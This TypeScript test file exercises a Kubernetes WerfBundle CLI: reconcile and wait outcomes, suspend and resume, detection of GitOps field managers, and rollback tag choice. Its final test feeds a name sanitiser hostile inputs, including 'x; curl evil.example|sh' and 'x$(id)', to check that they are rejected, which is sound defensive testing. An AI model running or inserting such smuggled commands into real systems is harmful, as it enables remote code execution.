import t from 'tap';
import { DEPLOY_REQUESTED, RECONCILE_REQUESTED } from '../../api/annotations.js';
import type { StoredBundle, WerfBundleSpec, WerfBundleStatus } from '../../api/werfbundle.js';
import { wordsOfManagers } from '../../cli/cluster/manager-words.js';
import { managerName, managersOf } from '../../cli/cluster/managers.js';
import { type ReconcileOptions, reconcileBundles } from '../../cli/reconcile/command.js';
import { outcomeOf, type Request } from '../../cli/reconcile/outcome.js';
import { rollbackTag } from '../../cli/rollback/target.js';
import { runCommand } from '../../cli/run-command.js';
import { resumeBundles, suspendBundles } from '../../cli/suspend/command.js';
import { KubeError, type ManagedFields } from '../../kube/client.js';
import { WERFBUNDLES } from '../../kube/resources.js';
import { bundle, deployment, iso, NOW } from '../kit/builders.js';
import { createFakeClock } from '../kit/fake-clock.js';
import { createFakeKube } from '../kit/fake-kube.js';
import { createFakeTerminal, sessionOf } from '../kit/fake-terminal.js';

const condition = (type: string, status: 'True' | 'False' | 'Unknown', message = '', reason = 'Deployed') => ({
  type,
  status,
  reason,
  message,
  lastTransitionTime: iso(0),
});
const SYNCED: WerfBundleStatus = {
  observedGeneration: 1,
  phase: 'Synced',
  lastAppliedTag: 'v1.1.0',
  conditions: [condition('Ready', 'True', 'deployed v1.1.0'), condition('RegistryReachable', 'True')],
};
const REF = { namespace: 'ops', name: 'my-app' };

const setUp = (status: WerfBundleStatus = SYNCED, spec: Partial<WerfBundleSpec> = {}) => {
  const clock = createFakeClock(NOW);
  const kube = createFakeKube({ clock });
  kube.seed(WERFBUNDLES, bundle(status, { spec }));
  const terminal = createFakeTerminal({ clock });
  const deps = { terminal, session: sessionOf(kube, terminal) };
  const stored = (): StoredBundle => {
    const found = kube.read(WERFBUNDLES, REF);
    if (found === undefined) throw new Error('it is gone');
    return found;
  };
  const reconcile = (options: Partial<ReconcileOptions> = {}, names: readonly string[] = ['my-app']) =>
    reconcileBundles(deps, names, { timeout: '5m', ...options });
  return { clock, kube, terminal, deps, stored, reconcile };
};

const conflict = () => new KubeError('conflict', 'patch: conflict', { status: 409 });
const turn = () => new Promise((resolve) => setImmediate(resolve));

t.test('a request is the time, under the version that was looked at, and never the same twice', async (t) => {
  const { kube, stored, reconcile, terminal } = setUp();
  kube.failNext({ verb: 'patch' }, conflict, 2);
  await reconcile();
  t.strictSame(stored().metadata.annotations, { [RECONCILE_REQUESTED]: iso(0) });
  await reconcile({ force: true });
  await reconcile();
  t.strictSame(stored().metadata.annotations, { [RECONCILE_REQUESTED]: iso(1), [DEPLOY_REQUESTED]: iso(0) });
  t.equal(
    terminal.taken(),
    'werfbundle.werf.io/my-app reconcile requested\nwerfbundle.werf.io/my-app deployment requested\nwerfbundle.werf.io/my-app reconcile requested\n',
  );
  kube.failNext({ verb: 'patch' }, conflict, 9);
  await t.rejects(reconcile(), { code: 'conflict' }, 'somebody who is quicker each time wins in the end');
});

t.test(
  '--failed begins the count of failed polls anew; without that right it asks all the same, and says so',
  async (t) => {
    const failed = { ...SYNCED, phase: 'Failed' as const, consecutiveFailures: 6 };
    const may = setUp(failed);
    await may.reconcile({ failed: true }, []);
    t.equal(may.stored().status?.consecutiveFailures, 0);
    const mayNot = setUp(failed);
    mayNot.kube.failNext({ verb: 'patch', subresource: 'status' }, new KubeError('forbidden', 'no', { status: 403 }));
    await mayNot.reconcile({ failed: true });
    t.match(mayNot.stored(), {
      status: { consecutiveFailures: 6 },
      metadata: { annotations: { [RECONCILE_REQUESTED]: iso(0) } },
    });
    t.match(
      mayNot.terminal.takenErrors(),
      /^my-app: the count of failed polls stays, for you may not write its status/,
    );
    const well = setUp();
    await well.reconcile({ failed: true }, []);
    t.strictSame(
      [well.terminal.taken(), well.terminal.takenErrors(), well.terminal.ended],
      ['', 'No bundle is Failed: nothing was done.\n', [0]],
      'that none is Failed is what one hopes for',
    );
  },
);

t.test('--wait ends with that very request, with the time, with the bundle, or with Ctrl-C', async (t) => {
  const waiting = async (change: (given: ReturnType<typeof setUp>) => unknown, status = SYNCED) => {
    const given = setUp(status);
    const end = given.reconcile({ wait: true, timeout: '10s' }).then(
      () => 'ended',
      (error: Error) => error.message,
    );
    for (let left = 20; left > 0; left -= 1) await turn();
    await change(given);
    const how = await end;
    return { how, out: given.terminal.taken(), err: given.terminal.takenErrors(), ended: given.terminal.ended };
  };
  const patch = ({ kube, terminal }: ReturnType<typeof setUp>, status: WerfBundleStatus) =>
    kube.mergePatch(WERFBUNDLES, REF, { status }, { subresource: 'status' }, terminal.signal);
  const done = await waiting(async (given) => {
    await patch(given, {
      lastHandledRequest: iso(-1),
      conditions: [condition('Ready', 'True', 'deployed v1.1.0, of old')],
    });
    await patch(given, {
      lastHandledRequest: iso(0),
      phase: 'Syncing',
      conditions: [condition('Ready', 'Unknown', 'deploying v1.2.0')],
    });
    await patch(given, {
      phase: 'Synced',
      lastAppliedTag: 'v1.2.0',
      conditions: [condition('Ready', 'True', 'deployed v1.2.0')],
    });
  });
  const asked = 'werfbundle.werf.io/my-app reconcile requested\n';
  t.strictSame(
    done,
    {
      how: 'ended',
      ended: [0],
      out: `${asked}my-app: Syncing: deploying v1.2.0\nmy-app: Synced: deployed v1.2.0\n`,
      err: '',
    },
    'nothing of before',
  );
  const late = await waiting(({ clock }) => clock.advance(10_000));
  t.match(late, {
    how: /^ops\/my-app: not done within 10s: the controller has not taken it up; its status, from before, says: deployed v1\.1\.0\n/,
    out: `${asked}my-app: the controller has not taken it up yet\n`,
  });
  const polls = await waiting(async (given) => {
    const down = [
      condition('Ready', 'True'),
      condition('RegistryReachable', 'False', 'error polling registry: timeout'),
    ];
    await patch(given, { lastHandledRequest: iso(0), phase: 'Syncing', conditions: down });
    await given.clock.advance(10_000);
  });
  t.match(
    polls.how,
    /^ops\/my-app: not done within 10s; its status says: error polling registry: timeout\nit goes on in the cluster: /,
  );
  const failing = (number: number) => (given: ReturnType<typeof setUp>) =>
    patch(given, {
      lastHandledRequest: iso(0),
      phase: 'Failed',
      conditions: [condition('Ready', 'False', 'v9 does not exist')],
      deployment: deployment({ number }),
    });
  const failedAnew = await waiting(failing(2));
  t.equal(failedAnew.out, `${asked}my-app: Failed\n`, 'why is said once, in the end');
  t.equal(
    failedAnew.how,
    'ops/my-app: v9 does not exist\nits log: werfbundle logs my-app -n ops --number 2; what to do: werfbundle doctor my-app -n ops',
  );
  t.equal(
    (
      await waiting(failing(1), {
        ...SYNCED,
        lastJobName: deployment().jobName,
        lastJobStatus: 'Succeeded',
        deployment: deployment(),
      })
    ).how,
    'ops/my-app: v9 does not exist\nwhat to do: werfbundle doctor my-app -n ops',
    'the last Job is of another deployment',
  );
  t.match((await waiting(({ kube }) => kube.vanish(WERFBUNDLES, REF))).how, /^ops\/my-app: it was deleted\n/);
  const unapproved = await waiting((given) =>
    patch(given, {
      lastHandledRequest: iso(0),
      phase: 'Syncing',
      conditions: [condition('Ready', 'False', 'v9 would delete it', 'ApprovalAwaited')],
    }),
  );
  t.strictSame(
    [unapproved.how, unapproved.out],
    ['ops/my-app: v9 would delete it\nto look at the plan, and approve it: werfbundle approve my-app -n ops', asked],
    'what waits for an approval does not go on by itself',
  );
  const left = await waiting(({ terminal }) => terminal.interrupt());
  t.equal(left.err, 'werfbundle: stopped waiting; what was asked for goes on in the cluster\n');
});

t.test('an outcome is final only when nothing goes on by itself', (t) => {
  const asked: Request = { kind: 'reconcile', value: 'now' };
  const of = (status: WerfBundleStatus, more: Partial<StoredBundle['metadata']> = {}, request: Request = asked) =>
    outcomeOf(
      bundle(
        { ...SYNCED, lastHandledRequest: 'now', ...status },
        { metadata: { annotations: { [RECONCILE_REQUESTED]: 'now' }, ...more } },
      ),
      request,
    );
  t.strictSame(of({}), { kind: 'ready', message: 'deployed v1.1.0' });
  t.strictSame(of({ lastHandledRequest: 'before' }), { kind: 'untaken', before: 'deployed v1.1.0' }, 'another request');
  t.match(
    of({ lastHandledRequest: 'later' }, { annotations: { [RECONCILE_REQUESTED]: 'later' } }),
    { kind: 'ready' },
    'a later one in its place',
  );
  t.match(of({ lastHandledRequest: 'before' }, { annotations: { [RECONCILE_REQUESTED]: 'later' } }), {
    kind: 'untaken',
  });
  t.match(of({ observedGeneration: 0 }), { kind: 'untaken' }, 'an older spec');
  t.match(of({ conditions: [condition('Suspended', 'True', 'suspended; v1.1.0 stays')] }), {
    kind: 'failed',
    message: 'suspended; v1.1.0 stays',
  });
  t.match(of({}, { deletionTimestamp: iso(0) }), { kind: 'failed', message: 'it is being deleted' });
  t.match(of({ phase: 'Failed', conditions: [condition('Ready', 'False', 'pod failed')] }), {
    kind: 'failed',
    message: 'pod failed',
  });
  const down = [condition('Ready', 'True'), condition('RegistryReachable', 'False', 'error polling registry: timeout')];
  t.strictSame(
    of({ phase: 'Syncing', conditions: down }),
    { kind: 'waiting', message: 'error polling registry: timeout' },
    'the poll is tried again',
  );
  t.match(of({ phase: 'Syncing', conditions: [condition('Ready', 'False', 'tried again')] }), {
    kind: 'waiting',
    message: 'tried again',
  });
  const deploy = { kind: 'deploy', value: 'now' } as const;
  t.match(of({}, {}, deploy), { kind: 'untaken' }, 'a deployment has a request of its own');
  t.match(of({ lastHandledDeployRequest: 'now' }, {}, deploy), { kind: 'ready' });
  t.strictSame(
    of({}, {}, { kind: 'spec', tag: 'v1.0.0' }),
    { kind: 'waiting', message: 'the registry has not offered v1.0.0 yet; the next poll asks again' },
    'another tag is deployed still',
  );
  t.match(of({}, {}, { kind: 'spec', tag: 'v1.1.0' }), { kind: 'ready' });
  t.end();
});

t.test('suspend and resume change one field, and twice is no failure', async (t) => {
  const running = {
    ...SYNCED,
    activeJobName: 'my-app-1',
    deployment: {
      number: 2,
      attempt: 1,
      generation: 1,
      tag: 'v1.2.0',
      digest: `sha256:${'a'.repeat(64)}`,
      checksum: 'c',
      reason: 'NewTag' as const,
      jobName: 'my-app-1',
      startedAt: iso(0),
    },
  };
  const { kube, terminal, deps, stored } = setUp({
    ...running,
    conditions: [condition('Ready', 'Unknown', '', 'WaitingForJob')],
  });
  const { resourceVersion } = stored().metadata;
  await suspendBundles(deps, ['wb/my-app'], {});
  t.strictSame(
    kube.actions.map(({ body }) => body),
    [{ spec: { suspend: true }, metadata: { resourceVersion } }],
  );
  t.equal(terminal.taken(), 'werfbundle.werf.io/my-app suspended\n');
  t.equal(
    terminal.takenErrors(),
    'my-app: Job my-app-1, which deploys v1.2.0, has not started werf yet: it is taken back\n',
  );
  await suspendBundles(deps, ['my-app'], {});
  t.equal(terminal.taken(), 'werfbundle.werf.io/my-app is suspended already\n');
  t.equal(kube.actions.length, 1);

  const resuming = resumeBundles(deps, ['my-app'], {});
  for (let left = 20; left > 0; left -= 1) await turn();
  const held = {
    observedGeneration: stored().metadata.generation,
    conditions: [condition('Suspended', 'True', 'suspended, as all bundles are (--suspend-all); v1.1.0 stays')],
  };
  await kube.mergePatch(WERFBUNDLES, REF, { status: held }, { subresource: 'status' }, terminal.signal);
  await resuming;
  t.equal(stored().spec.suspend, false);
  t.match(
    terminal.takenErrors(),
    /^my-app: suspended, as all bundles are \(--suspend-all\); v1\.1\.0 stays; only the platform ends that/,
  );
  t.strictSame(terminal.ended, [0, 0, 0]);
  await t.rejects(suspendBundles(deps, ['my-app', 'other'], {}), { message: /other was not found/ });
});

t.test('on a terminal, what is told is broken between words, and no command within it', async (t) => {
  const terminal = createFakeTerminal({ clock: createFakeClock(NOW), columns: 60 });
  const running = {
    ...SYNCED,
    activeJobName: 'my-app-1',
    conditions: [condition('Ready', 'Unknown', '', 'Deploying')],
  };
  const { kube, deps, stored } = setUp(running, { suspend: false });
  await suspendBundles({ ...deps, terminal }, ['my-app'], {});
  t.equal(
    terminal.takenErrors(),
    'my-app: Job my-app-1 runs on to its end: a suspension stops\n  no werf that has started\n',
  );
  await reconcileBundles({ ...deps, terminal }, ['my-app'], { timeout: '5m' });
  t.equal(
    terminal.takenErrors(),
    'my-app: it is suspended, and nothing is polled or deployed\n  until: werfbundle resume my-app -n ops\n',
  );
  const said = 'suspended, as all bundles are (--suspend-all); v1.1.0 stays';
  const held = {
    observedGeneration: (stored().metadata.generation ?? 0) + 1,
    conditions: [condition('Suspended', 'True', said)],
  };
  await kube.mergePatch(WERFBUNDLES, REF, { status: held }, { subresource: 'status' }, terminal.signal);
  await resumeBundles({ ...deps, terminal }, ['my-app'], {});
  t.equal(
    terminal.takenErrors(),
    'my-app: suspended, as all bundles are (--suspend-all);\n  v1.1.0 stays; only the platform ends that: it starts the\n  controller without --suspend-all\n',
  );
  terminal.taken();
  await runCommand(terminal, () => reconcileBundles({ ...deps, terminal }, ['my-app'], { timeout: '5m', wait: true }));
  t.equal(terminal.taken(), 'werfbundle.werf.io/my-app reconcile requested\n');
  t.equal(
    terminal.takenErrors(),
    'werfbundle: ops/my-app: suspended, as all bundles are\n  (--suspend-all); v1.1.0 stays\nwerfbundle: what to do: werfbundle doctor my-app -n ops\n',
  );
});

const entry = (manager: string, operation: 'Apply' | 'Update', fields: object): ManagedFields => ({
  manager,
  operation,
  fieldsV1: fields,
});
const SUSPEND = { 'f:spec': { 'f:suspend': {} } };
const FLUX = { 'kustomize.toolkit.fluxcd.io/name': 'apps', 'kustomize.toolkit.fluxcd.io/namespace': 'flux-system' };
const applied = (spec: object) => ({ 'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ spec }) });
const CHANGE = { paths: [['spec', 'suspend']], inGit: 'set spec.suspend: true' };

t.test('that the registry was not asked before a resumption is no fault', async (t) => {
  for (const [message, says] of [
    ['the registry has not been asked yet', 'the registry is asked now'],
    [
      'the registry has not been asked yet: polls are held back',
      'the registry has not been asked yet: polls are held back',
    ],
  ] as const) {
    const { terminal, deps } = setUp({ ...SYNCED, conditions: [condition('Ready', 'Unknown', message)] });
    await resumeBundles(deps, ['my-app'], {});
    t.equal(terminal.takenErrors(), `my-app: ${says}\n`);
  }
});

t.test('who puts a suspension back is told before it is made', async (t) => {
  const { kube, terminal, deps } = setUp(SYNCED);
  kube.setManagedFields(WERFBUNDLES, REF, [entry('kustomize-controller', 'Apply', SUSPEND)]);
  kube.failNext({ verb: 'patch' }, new KubeError('forbidden', 'no', { status: 403 }));
  await t.rejects(suspendBundles(deps, ['my-app'], {}), { code: 'forbidden' });
  t.match(terminal.takenErrors(), /^my-app: Kustomization \(Flux\) sets spec\.suspend, and puts it back/);
});

t.test('who manages a bundle is known by what they leave on it, and so is whether they set a field', (t) => {
  const cases: readonly {
    readonly title: string;
    readonly fields?: readonly ManagedFields[];
    readonly metadata?: Partial<StoredBundle['metadata']>;
    readonly says: readonly RegExp[];
  }[] = [
    { title: 'nobody', says: [] },
    {
      title: 'kubectl patch and edit, which nobody repeats',
      fields: [entry('kubectl-patch', 'Update', SUSPEND), entry('kubectl', 'Update', SUSPEND)],
      says: [],
    },
    {
      title: 'Flux, by its labels',
      metadata: { labels: FLUX },
      says: [/^Kustomization flux-system\/apps \(Flux\) manages this bundle and leaves spec\.suspend open/],
    },
    {
      title: 'Flux sets it',
      metadata: { labels: FLUX },
      fields: [entry('kustomize-controller', 'Apply', SUSPEND)],
      says: [
        /^Kustomization flux-system\/apps \(Flux\) sets spec\.suspend, and puts it back at its next reconcile\. .* flux suspend kustomization apps -n flux-system$/,
      ],
    },
    {
      title: 'a HelmRelease, which leaves the signs of Helm, too',
      metadata: {
        labels: { 'helm.toolkit.fluxcd.io/name': 'web' },
        annotations: { 'meta.helm.sh/release-name': 'web' },
      },
      fields: [entry('helm-controller', 'Update', SUSPEND)],
      says: [/^HelmRelease web \(Flux\) may set spec\.suspend; if so, it puts it back/],
    },
    {
      title: 'Helm',
      metadata: { annotations: { 'meta.helm.sh/release-name': 'web' } },
      fields: [entry('helm', 'Apply', SUSPEND)],
      says: [/^release web \(Helm\) sets spec\.suspend, and puts it back at its next upgrade/],
    },
    {
      title: 'Argo CD from the client: what it applied says what it sets, not what the schema filled in',
      metadata: {
        annotations: { 'argocd.argoproj.io/tracking-id': 'web:werf.io/WerfBundle:ops/my-app', ...applied({}) },
      },
      fields: [entry('argocd-controller', 'Update', SUSPEND)],
      says: [/^Application web \(Argo CD\) manages .* leaves spec\.suspend open/],
    },
    {
      title: 'Argo CD by label, and it sets it',
      metadata: { labels: { 'app.kubernetes.io/instance': 'web' } },
      fields: [entry('argocd-controller', 'Apply', SUSPEND)],
      says: [/^Application web \(Argo CD\) sets spec\.suspend.* argocd app set web --sync-policy none$/],
    },
    {
      title: 'the label alone, which charts have, too',
      metadata: { labels: { 'app.kubernetes.io/instance': 'web' } },
      says: [],
    },
    {
      title: 'kubectl apply of a manifest that has it',
      metadata: { annotations: applied({ suspend: false }) },
      fields: [entry('kubectl-client-side-apply', 'Update', SUSPEND)],
      says: [/^whoever applies this bundle \(kubectl apply\) sets spec\.suspend/],
    },
    {
      title: 'kubectl apply of one that has not',
      metadata: { annotations: applied({}) },
      fields: [entry('kubectl-client-side-apply', 'Update', SUSPEND)],
      says: [],
    },
  ];
  for (const { title, fields = [], metadata = {}, says } of cases) {
    const told = wordsOfManagers(managersOf(bundle(SYNCED, { metadata }), fields, CHANGE), CHANGE);
    t.equal(told.length, says.length, `${title}: ${told}`);
    for (const [at, words] of says.entries()) t.match(told[at], words, title);
  }
  const resumed = { paths: CHANGE.paths, inGit: 'take spec.suspend away', isDefault: true } as const;
  t.strictSame(
    wordsOfManagers(managersOf(bundle(SYNCED, { metadata: { labels: FLUX } }), [], resumed), resumed),
    [
      'Kustomization flux-system/apps (Flux) manages this bundle and leaves spec.suspend open: the change stays, and nothing is to change in git',
    ],
    'what is left out in git needs not be taken away there',
  );
  const two = [
    ['spec', 'registry', 'tag'],
    ['spec', 'registry', 'versionConstraint'],
  ];
  const [manager] = managersOf(
    bundle(),
    [entry('kustomize-controller', 'Apply', { 'f:spec': { 'f:registry': { 'f:versionConstraint': {} } } })],
    { paths: two },
  );
  t.match(
    manager,
    { hold: 'sets', fields: ['spec.registry.versionConstraint'] },
    'of several fields those that are set',
  );
  t.end();
});

t.test('the tag to go back to is the last other one that worked', (t) => {
  const entryOf = (tag: string, result: 'Succeeded' | 'Failed' = 'Succeeded', reason = 'NewTag') => ({
    number: 1,
    tag,
    result,
    reason,
    finishedAt: iso(0),
  });
  const of = (history: readonly object[], status: object, spec: object = {}) =>
    bundle({ ...SYNCED, history, ...status } as WerfBundleStatus, {
      spec: { registry: { url: 'registry.example/acme/app', ...spec } },
    });
  const tried = (tag: string) => ({ deployment: { tag } });
  const rows: readonly {
    readonly title: string;
    readonly given: StoredBundle;
    readonly to?: string;
    readonly is: string | RegExp;
  }[] = [
    {
      title: 'before what is deployed',
      given: of([entryOf('v1.1.0'), entryOf('v1.1.0'), entryOf('v1.0.0')], tried('v1.1.0')),
      is: 'v1.0.0',
    },
    {
      title: 'what is deployed, if a later one failed',
      given: of([entryOf('v1.2.0', 'Failed'), entryOf('v1.1.0')], tried('v1.2.0')),
      is: 'v1.1.0',
    },
    {
      title: 'an uninstall deployed nothing',
      given: of([entryOf('v0.9.0', 'Succeeded', 'Dismiss')], tried('v1.1.0')),
      is: /there is nothing to go back to: status\.history has no other tag than v1\.1\.0/,
    },
    {
      title: 'nothing was deployed',
      given: of([], { lastAppliedTag: undefined }),
      is: /nothing was deployed yet; --to names any tag/,
    },
    { title: 'any that is named', given: of([], tried('v1.1.0')), to: 'v0.1.0', is: 'v0.1.0' },
    {
      title: 'what is deployed',
      given: of([entryOf('v1.1.0'), entryOf('v1.0.0')], tried('v1.1.0')),
      to: 'v1.1.0',
      is: /v1\.1\.0 is what is deployed; before it there were v1\.0\.0; /,
    },
    {
      title: 'a pin of which nothing came: back to what is deployed',
      given: of([entryOf('v1.1.0'), entryOf('v1.0.0')], tried('v1.1.0'), { tag: 'v9.9.9' }),
      is: 'v1.1.0',
    },
    {
      title: 'a pin of which nothing came, to what is deployed',
      given: of([], tried('v1.1.0'), { tag: 'v9.9.9' }),
      to: 'v1.1.0',
      is: 'v1.1.0',
    },
    {
      title: 'a pin that failed',
      given: of([entryOf('v2.0.0', 'Failed'), entryOf('v1.1.0')], tried('v2.0.0'), { tag: 'v2.0.0' }),
      is: 'v1.1.0',
    },
    {
      title: 'what is pinned',
      given: of([], {}, { tag: 'v1.0.0' }),
      to: 'v1.0.0',
      is: /spec\.registry\.tag is v1\.0\.0 already/,
    },
  ];
  for (const { title, given, to, is } of rows) {
    if (typeof is === 'string') t.equal(rollbackTag(given, { given: to, pins: true }), is, title);
    else t.throws(() => rollbackTag(given, { given: to, pins: true }), { message: is }, title);
  }
  t.end();
});

t.test('a name that stands on an object is told only if something can be called so', (t) => {
  for (const name of ['apps', 'a.b-c', 'argocd_shop']) t.equal(managerName(name), name);
  for (const name of ['x; curl evil.example|sh', 'x$(id)', 'a\nb', 'x\u001b[31m', '', '-rf', 'A'.repeat(300)])
    t.equal(managerName(name), undefined, JSON.stringify(name));
  t.end();
});
